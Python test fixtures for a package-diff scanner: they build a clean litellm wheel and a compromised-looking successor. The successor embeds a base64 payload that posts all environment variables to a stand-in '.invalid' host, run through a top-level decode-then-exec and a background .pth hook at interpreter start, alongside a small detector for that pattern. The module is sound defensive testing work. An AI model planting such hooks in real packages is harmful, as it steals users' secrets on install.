"""Artifacts built in memory for diff tests: a litellm 1.82.6 -> 1.82.8-shaped pair and helpers.

Nothing here is executed: the payloads are strings inside files of an in-memory artifact, and
their only network target is a `*.invalid` name.
"""

from __future__ import annotations

import base64
import hashlib
from dataclasses import dataclass
from typing import TYPE_CHECKING, ClassVar

from chainwarden.analyzers.base import Analyzer, ArtifactView
from chainwarden.artifact import Artifact, ArtifactError
from chainwarden.models import (
    ArtifactKind,
    ArtifactRef,
    Finding,
    Location,
    Member,
    Severity,
    Trigger,
)
from chainwarden.sources.metadata import parse_core_metadata

if TYPE_CHECKING:
    from collections.abc import Iterable, Mapping, Sequence


class MemoryArtifact(Artifact):
    """A wheel-like artifact held in a dict: path -> bytes."""

    def __init__(
        self, files: Mapping[str, bytes], *, kind: ArtifactKind = ArtifactKind.WHEEL, label: str = "mem"
    ) -> None:
        self.files = dict(files)
        self.ref = ArtifactRef(kind, f"memory:{label}", label=label)
        meta_path = next((p for p in self.files if p.endswith(".dist-info/METADATA") or p == "PKG-INFO"), None)
        eps_path = next((p for p in self.files if p.endswith(".dist-info/entry_points.txt")), None)
        self.metadata = (
            parse_core_metadata(self.files[meta_path], entry_points=self.files.get(eps_path) if eps_path else None)
            if meta_path
            else None
        )
        self.unreadable: set[str] = set()

    def members(self) -> Sequence[Member]:
        return [Member(p, len(d), install_path=_install_path(p)) for p, d in sorted(self.files.items())]

    def read(self, path: str) -> bytes:
        if path in self.unreadable:
            raise ArtifactError(f"{path}: unreadable")
        return self.files[path]


def _install_path(path: str) -> str:
    if ".data/purelib/" in path or ".data/platlib/" in path:
        return path.split("/", 3)[-1]
    if ".data/" in path.split("/", 1)[0]:
        return ""
    return path


def metadata(name: str, version: str, *, requires: Sequence[str] = (), author: str = "BerriAI") -> bytes:
    lines = ["Metadata-Version: 2.1", f"Name: {name}", f"Version: {version}", f"Author: {author}"]
    lines += [f"Requires-Dist: {r}" for r in requires]
    return ("\n".join(lines) + "\n\n").encode()


def wheel(
    name: str,
    version: str,
    files: Mapping[str, bytes],
    *,
    requires: Sequence[str] = (),
    entry_points: str = "",
    author: str = "BerriAI",
) -> MemoryArtifact:
    dist = f"{name}-{version}.dist-info"
    all_files = dict(files)
    all_files[f"{dist}/METADATA"] = metadata(name, version, requires=requires, author=author)
    all_files[f"{dist}/WHEEL"] = b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    if entry_points:
        all_files[f"{dist}/entry_points.txt"] = entry_points.encode()
    record = "".join(f"{p},sha256={hashlib.sha256(d).hexdigest()},{len(d)}\n" for p, d in sorted(all_files.items()))
    all_files[f"{dist}/RECORD"] = (record + f"{dist}/RECORD,,\n").encode()
    return MemoryArtifact(all_files, label=f"{name}-{version}")


PROXY_CLEAN = b'''"""LiteLLM proxy server."""
import os

from litellm.proxy import utils

app_name = "litellm-proxy"


def start(port: int = 4000) -> None:
    utils.serve(app_name, port)
'''

_STAGE2 = b"import os, urllib.request\nurllib.request.urlopen('https://models.litellm.invalid/', data=repr(dict(os.environ)).encode())\n"
PAYLOAD_B64 = base64.b64encode(_STAGE2).decode()

PROXY_MALICIOUS = PROXY_CLEAN.replace(
    b"app_name = ",
    b"import base64\nexec(base64.b64decode('" + PAYLOAD_B64.encode() + b"'))\napp_name = ",
)

PTH_MALICIOUS = (
    "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
    f"\"import base64; exec(base64.b64decode('{PAYLOAD_B64}'))\"], "
    "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
).encode()


def litellm_files(version: str) -> dict[str, bytes]:
    return {
        "litellm/__init__.py": f'__version__ = "{version}"\nfrom litellm.main import completion\n'.encode(),
        "litellm/main.py": b"def completion(model, messages):\n    return {'model': model}\n",
        "litellm/proxy/__init__.py": b"",
        "litellm/proxy/utils.py": b"def serve(name, port):\n    return (name, port)\n",
        "litellm/proxy/proxy_server.py": PROXY_CLEAN,
        "litellm/router.py": b"class Router:\n    pass\n",
    }


def litellm_pair() -> tuple[MemoryArtifact, MemoryArtifact]:
    """1.82.6 (clean) and 1.82.8-shaped: `litellm_init.pth` added, decode-then-exec in proxy_server.py."""
    old = wheel("litellm", "1.82.6", litellm_files("1.82.6"), requires=["httpx>=0.23"])
    files = litellm_files("1.82.8")
    files["litellm/proxy/proxy_server.py"] = PROXY_MALICIOUS
    files["litellm_init.pth"] = PTH_MALICIOUS
    new = wheel("litellm", "1.82.8", files, requires=["httpx>=0.23"])
    return old, new


def benign_pair() -> tuple[MemoryArtifact, MemoryArtifact]:
    """An ordinary release: a version bump, a new function, a new module with no top-level effects."""
    old = wheel("litellm", "1.82.5", litellm_files("1.82.5"), requires=["httpx>=0.23"])
    files = litellm_files("1.82.6")
    files["litellm/main.py"] += b"\n\ndef acompletion(model, messages):\n    return completion(model, messages)\n"
    files["litellm/caching.py"] = b"class Cache:\n    def get(self, key):\n        return None\n"
    new = wheel("litellm", "1.82.6", files, requires=["httpx>=0.23"])
    return old, new


# ------------------------------------------------------------------ a stand-in analyzer


@dataclass(frozen=True, slots=True)
class ExecFacts:
    decode_exec: bool
    top_level: bool


class DecodeExecAnalyzer(Analyzer[ExecFacts]):
    """A deliberately small stand-in for the Python analyzer: `exec(base64.b64decode(...))` on a
    line without indentation is decode-then-exec at import; in a .pth line, at interpreter start.
    It counts `extract` calls so tests can see the cache at work."""

    name = "test-decode-exec"
    version = "1"
    facts_type = ExecFacts
    calls: ClassVar[list[int]] = []

    def select(self, member: Member, view: ArtifactView) -> bool:
        return member.path.endswith((".py", ".pth"))

    def extract(self, data: bytes) -> ExecFacts:
        self.calls.append(len(data))
        lines = data.splitlines()
        hit = [line for line in lines if b"exec(base64.b64decode(" in line]
        return ExecFacts(bool(hit), any(not line.startswith((b" ", b"\t")) for line in hit))

    def judge(self, view: ArtifactView, facts: Mapping[str, ExecFacts]) -> Iterable[Finding]:
        for path, f in facts.items():
            if not f.decode_exec:
                continue
            trigger = (
                Trigger.INTERPRETER_START if path.endswith(".pth") else Trigger.IMPORT if f.top_level else Trigger.CALL
            )
            yield Finding(
                "TEST001",
                Severity.CRITICAL,
                "decoded data reaches exec",
                Location(view.label, path, 1),
                trigger=trigger,
                capabilities=("decode-exec",),
            )


def entry_points(pairs: Iterable[tuple[str, str, str]]) -> str:
    groups: dict[str, list[str]] = {}
    for group, name, value in pairs:
        groups.setdefault(group, []).append(f"{name} = {value}")
    return "".join(f"[{g}]\n" + "\n".join(v) + "\n" for g, v in groups.items())
